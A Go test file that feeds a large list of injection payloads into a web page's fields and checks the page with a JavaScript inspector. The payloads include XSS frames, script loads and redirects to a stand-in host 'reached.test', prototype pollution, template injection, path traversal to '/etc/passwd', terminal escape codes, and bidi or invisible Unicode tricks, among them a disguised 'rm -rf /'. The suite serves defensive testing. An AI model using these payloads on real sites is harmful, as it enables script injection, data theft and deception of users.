//go:build linux

package page

import (
	"fmt"
	"strings"
	"testing"
)

// reached is the host to which payloads would send what they get.
const reached = "reached.test"

// scripts are what a page would run, each in every one of the frames.
var scripts = []string{
	`hookwayTaken=1`,
	`alert(1)`,
	`fetch("//` + reached + `/")`,
	`import("//` + reached + `/x.js")`,
	`location="//` + reached + `/"`,
	`document.body.innerHTML=hookwayTaken=1`,
}

// frames are ways into a page: %s is a script.
var frames = []string{
	`<script>%s</script>`,
	`"><script>%s</script>`,
	`'><script>%s</script>`,
	`</script><script>%s</script>`,
	`</textarea><script>%s</script>`,
	`</title><script>%s</script>`,
	`--><script>%s</script>`,
	`]]><script>%s</script>`,
	`<img src=x onerror='%s'>`,
	`<svg onload='%s'>`,
	`<svg><script>%s</script></svg>`,
	`<svg><animate onbegin='%s' attributeName=x dur=1s>`,
	`<body onload='%s'>`,
	`<details open ontoggle='%s'>`,
	`<iframe srcdoc="<script>%s</script>">`,
	`<a href='javascript:%s' autofocus>x</a>`,
	`" onfocus='%s' autofocus x="`,
	`javascript:%s//`,
	`${%s}`,
	`{{constructor.constructor('%s')()}}`,
	`<input autofocus onfocus='%s'>`,
	`<video><source onerror='%s'></video>`,
	`<math><mtext><table><mglyph><style><img src onerror='%s'>`,
	`<template><script>%s</script></template>`,
}

// others are payloads that are not about a script of their own.
var others = []string{
	// HTML that changes a page without a script.
	`<base href="http://reached.test/">`, `<meta http-equiv=refresh content="0;url=http://reached.test/">`, `<link rel=stylesheet href=http://reached.test/x.css>`,
	`<style>*{display:none}</style>`, `<style>@import "http://reached.test/x.css";</style>`, `<style>body{background:url(http://reached.test/x)}</style>`,
	`<form action=http://reached.test/><button autofocus>Allow</button></form>`, `<object data=http://reached.test/x>`, `<embed src=http://reached.test/x>`,
	`<img src=http://reached.test/x.png>`, `<img srcset="http://reached.test/x.png 1x">`, `<picture><source srcset=http://reached.test/x></picture>`,
	`<video poster=http://reached.test/x.png autoplay>`, `<audio src=http://reached.test/x autoplay>`, `<iframe src=http://reached.test/></iframe>`,
	`<table background=http://reached.test/x>`, `<input type=image src=http://reached.test/x>`, `<link rel=prefetch href=http://reached.test/x>`,
	`<link rel=dns-prefetch href=http://reached.test/>`, `<svg><image href=http://reached.test/x /></svg>`, `<svg><use href=http://reached.test/x#y /></svg>`,
	`<svg><foreignObject><iframe src=http://reached.test/></foreignObject></svg>`, `<?xml-stylesheet href="http://reached.test/x"?>`, `<!--[if IE]><script>1</script><![endif]-->`,
	`<dialog open>Allow?</dialog>`, `<div popover=manual id=x>y</div>`, `</main></body></html>`, `<h1>hookway</h1><button>Allow</button>`, `<marquee>x</marquee>`,
	`<plaintext>`, `<!--`, `<![CDATA[`, `<noscript><p title="</noscript><img src=x onerror=hookwayTaken=1>">`, `&lt;script&gt;hookwayTaken=1&lt;/script&gt;`, `&#60;script&#62;`,
	`<div style="position:fixed;inset:0;background:red">x</div>`, `<p id=__proto__ name=getElementById>`, `<a id=hookwayShift><a id=hookwayShift name=total>`, `<img name=querySelector>`,
	// CSS.
	`x;background:url(http://reached.test/x)`, `red}*{display:none}`, `expression(hookwayTaken=1)`, `url(javascript:hookwayTaken=1)`, `*/}body{display:none}/*`,
	`@import url(http://reached.test/x)`, `-moz-binding:url(http://reached.test/x)`, `\3c script\3e`,
	// Addresses, also where the page makes one of a name.
	`http://reached.test/`, `//reached.test/x`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:x`, `blob:http://reached.test/x`, `#/approvals?allow=all`,
	`../../v1/approvals`, `%2e%2e%2f%2e%2e%2fetc`, `..\..\x`, `?q=x&action=allow#link=x`, `/etc/passwd%00.png`, `file:///etc/passwd`, `a/b/c?d#e`, `%`, `%zz`, `%00`,
	// Names that mean something to JavaScript, and to templates.
	`__proto__`, `constructor`, `prototype`, `toString`, `hasOwnProperty`, `valueOf`, `__defineGetter__`, `then`, `length`, `undefined`, `null`, `NaN`, `true`, `[object Object]`, `0`, `-1`, `1e999`,
	`{"__proto__":{"polluted":1}}`, `${7*7}`, `{{7*7}}`, `<%= 7*7 %>`, `#{7*7}`, `[[7*7]]`, `@{7*7}`, "`${hookwayTaken=1}`", `$&$1$$`, `\u003cscript\u003e`, `';hookwayTaken=1//`, `");hookwayTaken=1//`,
	// What terminals obey.
	"\x1b[31mred\x1b[0m", "\x1b]8;;http://reached.test/\x07link\x1b]8;;\x07", "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1bP+q\x1b\\", "\x9b31m", "a\rb", "a\bb", "\a\a\a", "\x00\x01\x02", "a\vb\fc", "\x7f",
	// What is not to be seen, or turns text around.
	"\u202egpj.exe", "\u2066isolated\u2069", "\u202a\u202b\u202c\u202d", "allow\u200bed", "a\u200db\u200cc", "\ufefftext", "\u061cx\u200e\u200f", "rm -rf /\u2028# safe", "x\u2029y", "\u00a0\u3000\u2003", "\u00ad\u00ad", "\U000e0041\U000e0042", "a\ufe0fb",
	"\u180e\u2060\u2061\u2062\u2063\u2064", "\u115f\u1160\u3164\uffa0", "\u034f\u17b4\u17b5", "\u206a\u206b\u206c\u206d\u206e\u206f", "\ufff9a\ufffab\ufffb",
	// What other scripts look like, and what is hard to draw.
	"раураl.com", "ａｌｌｏｗ", "Ⅰ𝟙①", "🏴\u200d☠️👨\u200d👩\u200d👧\u200d👦", "न्\u200dख", "שלום عربى", "e" + strings.Repeat("\u0301", 300), "\U0010ffff\ufffe\uffff", "ﷺ﷽𒐫",
	// What is not UTF-8.
	"\xff\xfe", "\xc0\xbcscript\xc0\xbe", "\xed\xa0\x80\xed\xb0\x80", "a\xf0\x9f", "\xe2\x80", "\xf4\x90\x80\x80",
	// Much of it.
	strings.Repeat("A", 100_000), strings.Repeat("W ", 50_000), strings.Repeat("\n", 5_000), strings.Repeat("<b>", 3_000), strings.Repeat("(", 20_000), strings.Repeat("&", 10_000), strings.Repeat("🦊", 5_000), strings.Repeat("x\ty\n", 3_000), strings.Repeat("\u202e", 2_000),
	// Nothing of it.
	"", " ", "\n", "\t", "''", `""`, "\\", "-", ".", "..",
}

// payloads are all that is tried in every field that the page shows.
func payloads() (all []string) {
	for i, frame := range frames {
		// Every way in with the plainest script, and every script in some way.
		all = append(all, fmt.Sprintf(frame, scripts[0]))
		all = append(all, fmt.Sprintf(frame, scripts[1+i%(len(scripts)-1)]))
	}
	return append(all, others...)
}

func TestPayloadsAreMany(t *testing.T) {
	all := map[string]bool{}
	for _, p := range payloads() {
		all[p] = true
	}
	if len(all) < 200 || len(all) != len(payloads()) {
		t.Errorf("got %d payloads, %d of them different; want 200 or more, all different", len(payloads()), len(all))
	}
}

// inspect is JavaScript that gives what a page has that it should not have, whatever it
// shows; "" is nothing.
const inspect = `(() => {
	const bad = []
	if (globalThis.hookwayTaken !== undefined) bad.push("a script has run")
	if (({}).polluted !== undefined || Object.keys(Object.prototype).length) bad.push("Object.prototype was changed")
	const mine = location.origin + "/"
	for (const e of document.querySelectorAll("*")) {
		const name = e.localName
		if (["iframe", "frame", "object", "embed", "base", "marquee", "plaintext", "template", "math", "applet", "video", "audio", "source", "foreignobject", "animate", "use", "image"].includes(name))
			bad.push("there is a " + name)
		if (["script", "link", "style", "meta"].includes(name) && !e.closest("head")) bad.push("there is a " + name + " outside of the head")
		for (const a of e.attributes) {
			if (/^on/i.test(a.name)) bad.push(name + " has " + a.name)
			if (["src", "href", "action", "formaction", "srcset", "data", "poster", "ping", "background", "xlink:href"].includes(a.name) && a.value !== "" && !a.value.startsWith("#") && a.value !== "data:," && !a.value.startsWith("data:image/")) {
				let to = ""
				try { to = new URL(a.value, location.href).href } catch {}
				if (!to.startsWith(mine)) bad.push(name + " leads to " + a.value.slice(0, 100))
			}
			if (a.name === "style" && /url\(|expression|import/i.test(a.value)) bad.push("a style loads something: " + a.value.slice(0, 100))
		}
	}
	const hidden = /[\u0000-\u0008\u000b\u000c\u000d\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]/
	const seen = (text, where) => {
		const found = hidden.exec(text)
		if (found) bad.push(where + " has U+" + found[0].codePointAt(0).toString(16) + " as it is: " + JSON.stringify(text.slice(Math.max(0, found.index - 20), found.index + 20)))
	}
	const walk = document.createTreeWalker(document.documentElement, NodeFilter.SHOW_TEXT)
	while (walk.nextNode()) if (!["SCRIPT", "STYLE"].includes(walk.currentNode.parentNode.nodeName)) seen(walk.currentNode.data, walk.currentNode.parentNode.localName)
	for (const e of document.querySelectorAll("[title],[aria-label],[alt],[placeholder],option,input,textarea"))
		for (const name of ["title", "aria-label", "alt", "placeholder", "label"]) seen(e.getAttribute(name) ?? "", e.localName + "'s " + name)
	if (document.documentElement.scrollWidth > document.documentElement.clientWidth) bad.push("the page is wider than its window: " + document.documentElement.scrollWidth + " > " + document.documentElement.clientWidth)
	for (const part of ["head", "body", "main", "nav", "h1"])
		if (document.querySelectorAll(part).length !== 1) bad.push("there are " + document.querySelectorAll(part).length + " " + part)
	return [...new Set(bad)].slice(0, 10).join("\n")
})()`

// isWhole fails the test if the page has anything that somebody else has put there.
func (p *tab) isWhole(t testing.TB, shows string) {
	t.Helper()
	if bad := eval[string](p, inspect); bad != "" {
		t.Errorf("%s:\n%s", shows, bad)
	}
}
